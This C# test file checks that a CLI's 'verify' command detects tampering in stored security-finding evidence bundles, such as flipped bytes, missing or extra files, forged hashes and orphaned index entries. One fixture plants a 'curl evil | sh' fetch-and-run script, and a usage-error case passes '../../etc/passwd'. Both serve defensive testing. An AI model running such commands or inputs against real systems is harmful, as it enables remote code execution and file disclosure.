using ReverseShellFunction.Bundle;
using ReverseShellFunction.Cli;
using ReverseShellFunction.Tests.Support;

namespace ReverseShellFunction.Tests.Cli;

/// <summary>verify: each kind of damage is found and named; clean bundles pass.</summary>
public abstract partial class AuditCommandsTest
{
    private static readonly SampleEvent s_second = new() { FindingId = "7a7a7a7a7a7a7a7a7a7a7a7a7a7a7a7a", EventTime = new DateTimeOffset(2026, 11, 27, 9, 30, 0, 125, TimeSpan.Zero) };

    [Fact]
    public async Task Verify_CleanBundles_AllVerify()
    {
        var first = await SeedAsync();
        var second = await SeedAsync(s_second);

        var all = await RunAsync("verify", "--all");
        var byId = await RunAsync("verify", first.Value, second.Value, "--json");

        Assert.True(all.ExitCode == ExitCodes.Ok, all.ToString());
        Assert.Contains($"ok      {first}", all.Output, StringComparison.Ordinal);
        Assert.Contains($"ok      {second}", all.Output, StringComparison.Ordinal);
        Assert.Contains("2 bundle(s) verified", all.Output, StringComparison.Ordinal);
        Assert.Equal(ExitCodes.Ok, byId.ExitCode);
        var results = JsonLines(byId.Output);
        Assert.Equal(2, results.Count);
        Assert.All(results, r => Assert.True(r.GetProperty("verified").GetBoolean()));
        var metadata = results[0].GetProperty("checks").EnumerateArray().Single(c => c.GetProperty("name").GetString() == "sha256-metadata");
        Assert.Equal(Store.KeepsMetadata ? "ok" : "n/a", metadata.GetProperty("outcome").GetString());
        Assert.False(string.IsNullOrEmpty(results[0].GetProperty("retention").GetString()));
    }

    [Fact]
    public async Task Verify_FlippedByteInBundle_ReportsHashMismatchAgainstIndexEntry()
    {
        var id = await SeedAsync();
        var indexed = await Store.Store.ReadIndexEntryAsync(id, CancellationToken.None);
        var expectedSha = System.Text.Json.JsonDocument.Parse(indexed!).RootElement.GetProperty("bundle").GetProperty("sha256").GetString()!;
        await TamperBundleAsync(id, bytes =>
        {
            bytes[bytes.Length / 2] ^= 0x01;
            return bytes;
        });

        var result = await RunAsync("verify", id.Value);

        Assert.Equal(ExitCodes.Problem, result.ExitCode);
        Assert.Contains($"FAILED  {id}", result.Output, StringComparison.Ordinal);
        Assert.Contains($"bundle {id}: the bundle's bytes hash to ", result.Output, StringComparison.Ordinal);
        Assert.Contains($"the index entry says {expectedSha}", result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Verify_MissingFile_NamesTheFile()
    {
        var id = await SeedAsync();
        await TamperBundleAndIndexAsync(id, zip => ZipEditor.Remove(zip, "summary.md"));

        var result = await RunAsync("verify", id.Value, "--json");

        Assert.Equal(ExitCodes.Problem, result.ExitCode);
        var problem = Assert.Single(JsonLines(result.Output)[0].GetProperty("problems").EnumerateArray());
        Assert.Equal("file-missing", problem.GetProperty("kind").GetString());
        Assert.Equal("summary.md", problem.GetProperty("file").GetString());
        Assert.Equal("no entry", problem.GetProperty("found").GetString());
        Assert.StartsWith($"bundle {id}: file summary.md is missing", problem.GetProperty("message").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Verify_ExtraFile_NamesTheFile()
    {
        var id = await SeedAsync();
        await TamperBundleAndIndexAsync(id, zip => ZipEditor.Add(zip, "planted.sh", "curl evil | sh"u8.ToArray()));

        var result = await RunAsync("verify", id.Value, "--json");

        Assert.Equal(ExitCodes.Problem, result.ExitCode);
        var problem = Assert.Single(JsonLines(result.Output)[0].GetProperty("problems").EnumerateArray());
        Assert.Equal("file-extra", problem.GetProperty("kind").GetString());
        Assert.Equal($"bundle {id}: file planted.sh is in the zip but not in the manifest", problem.GetProperty("message").GetString());
    }

    [Fact]
    public async Task Verify_ManifestWithEditedFileHash_ReportsTheFileAgainstTheManifest()
    {
        var id = await SeedAsync();
        const string Forged = "0000000000000000000000000000000000000000000000000000000000000000";
        await TamperBundleAndIndexAsync(id, zip => ZipEditor.Replace(zip, BundleLayout.Entries.Manifest, json => EditJson(json, root =>
            root["files"]!.AsArray().Single(f => (string?)f!["path"] == "notification.json")!["sha256"] = Forged)));

        var result = await RunAsync("verify", id.Value, "--json");

        Assert.Equal(ExitCodes.Problem, result.ExitCode);
        var problem = Assert.Single(JsonLines(result.Output)[0].GetProperty("problems").EnumerateArray());
        Assert.Equal("file-hash-mismatch", problem.GetProperty("kind").GetString());
        Assert.Equal("notification.json", problem.GetProperty("file").GetString());
        Assert.Equal(Forged, problem.GetProperty("expected").GetString());
        Assert.Contains("file notification.json hashes to ", problem.GetProperty("message").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Verify_ManifestWithEditedFindingName_ReportsDisagreementWithIndexEntry()
    {
        var id = await SeedAsync();
        await TamperBundleAndIndexAsync(id, zip => ZipEditor.Replace(zip, BundleLayout.Entries.Manifest, json => EditJson(json, root =>
            root["findingName"] = "organizations/1/sources/2/findings/somebody-else")));

        var result = await RunAsync("verify", id.Value);

        Assert.Equal(ExitCodes.Problem, result.ExitCode);
        Assert.Contains(
            $"bundle {id}: the index entry and manifest.json disagree on the finding name: the index entry has 'organizations/418230051457/",
            result.Output,
            StringComparison.Ordinal);
        Assert.Contains("the manifest 'organizations/1/sources/2/findings/somebody-else'", result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Verify_EditedIndexEntry_ReportsWhereItsSummaryDiffersFromSummaryJson()
    {
        var id = await SeedAsync();
        await Store.TamperAsync(BundleLayout.IndexObject(id), json => EditJson(json, root => root["summary"]!["network"]!["remoteIp"] = "203.0.113.9"), CancellationToken.None);

        var result = await RunAsync("verify", id.Value, "--json");

        Assert.Equal(ExitCodes.Problem, result.ExitCode);
        var problem = Assert.Single(JsonLines(result.Output)[0].GetProperty("problems").EnumerateArray());
        Assert.Equal("summary-mismatch", problem.GetProperty("kind").GetString());
        Assert.Equal(
            $"bundle {id}: the index entry's summary differs from summary.json at $.network.remoteIp: the index entry has \"203.0.113.9\", summary.json has \"198.51.100.23\"",
            problem.GetProperty("message").GetString());
    }

    [Fact]
    public async Task Verify_BundleWithoutIndexEntry_IsFoundByAll()
    {
        var kept = await SeedAsync(s_second);
        var orphan = await SeedAsync();
        await Store.DeleteAsync(BundleLayout.IndexObject(orphan), CancellationToken.None);

        var result = await RunAsync("verify", "--all", "--json");

        Assert.Equal(ExitCodes.Problem, result.ExitCode);
        var results = JsonLines(result.Output).ToDictionary(r => r.GetProperty("bundleId").GetString()!);
        Assert.True(results[kept.Value].GetProperty("verified").GetBoolean());
        Assert.Equal(["index-entry-missing"], ProblemKinds(results[orphan.Value]));
        Assert.Contains($"bundle {orphan}: the index entry {BundleLayout.IndexObject(orphan)} is missing", result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Verify_IndexEntryWithoutBundle_IsFoundByAll()
    {
        var id = await SeedAsync();
        await Store.DeleteAsync(BundleLayout.BundleObject(id), CancellationToken.None);

        var result = await RunAsync("verify", "--all");

        Assert.Equal(ExitCodes.Problem, result.ExitCode);
        Assert.Contains(
            $"bundle {id}: the bundle object {BundleLayout.BundleObject(id)} is missing; the index entry {BundleLayout.IndexObject(id)} points at it",
            result.Output,
            StringComparison.Ordinal);
    }

    [Fact]
    public async Task Verify_ObjectWhoseNameNamesNoBundle_IsReportedByAll()
    {
        await SeedAsync();
        await Store.PutRawAsync("index/2026/11/28/notes.json", "{}"u8.ToArray(), CancellationToken.None);

        var result = await RunAsync("verify", "--all");

        Assert.Equal(ExitCodes.Problem, result.ExitCode);
        Assert.Contains("FAILED  index/2026/11/28/notes.json", result.Output, StringComparison.Ordinal);
        Assert.Contains("object index/2026/11/28/notes.json: the name names no bundle", result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Verify_BundleReplacedByNonZip_IsNotAZip()
    {
        var id = await SeedAsync();
        await TamperBundleAndIndexAsync(id, _ => "not a zip at all"u8.ToArray());

        var result = await RunAsync("verify", id.Value, "--json");

        Assert.Equal(ExitCodes.Problem, result.ExitCode);
        Assert.Equal(["not-a-zip"], ProblemKinds(JsonLines(result.Output)[0]));
    }

    [Fact]
    public async Task Verify_IndexEntryThatIsNotJson_IsUnreadableAndTheBundleIsStillChecked()
    {
        var id = await SeedAsync();
        await Store.PutRawAsync(BundleLayout.IndexObject(id), "{ truncated"u8.ToArray(), CancellationToken.None);

        var result = await RunAsync("verify", id.Value, "--json");

        Assert.Equal(ExitCodes.Problem, result.ExitCode);
        var verification = JsonLines(result.Output)[0];
        Assert.Equal(["index-entry-unreadable"], ProblemKinds(verification));
        var files = verification.GetProperty("checks").EnumerateArray().Single(c => c.GetProperty("name").GetString() == "files");
        Assert.Equal("ok", files.GetProperty("outcome").GetString());
    }

    [Fact]
    public async Task Verify_UnknownId_IsNotFound()
    {
        var id = BundleId.For("organizations/1/sources/2/findings/nothere", DateTimeOffset.UnixEpoch.AddYears(50));

        var result = await RunAsync("verify", id.Value);

        Assert.Equal(ExitCodes.Problem, result.ExitCode);
        Assert.Contains($"bundle {id}: neither a bundle object nor an index entry has this id", result.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Verify_SinceLimitsTheCrossCheckToThatRange()
    {
        var old = await SeedAsync(s_second);
        var recent = await SeedAsync();
        await Store.DeleteAsync(BundleLayout.IndexObject(old), CancellationToken.None);

        var result = await RunAsync("verify", "--since", "2026-11-28", "--json");

        Assert.Equal(ExitCodes.Ok, result.ExitCode);
        Assert.Equal([recent.Value], JsonLines(result.Output).Select(r => r.GetProperty("bundleId").GetString()));
    }

    [Theory]
    [InlineData("verify")]
    [InlineData("verify", "--all", "20261128T211407482Z-abc-0123456789abcdef")]
    [InlineData("verify", "../../etc/passwd")]
    [InlineData("verify", "--since", "yesterday")]
    public async Task Verify_UsageErrors_ExitTwo(params string[] args)
    {
        var result = await RunAsync(args);

        Assert.Equal(ExitCodes.Usage, result.ExitCode);
        Assert.StartsWith("error: ", result.Error, StringComparison.Ordinal);
    }
}
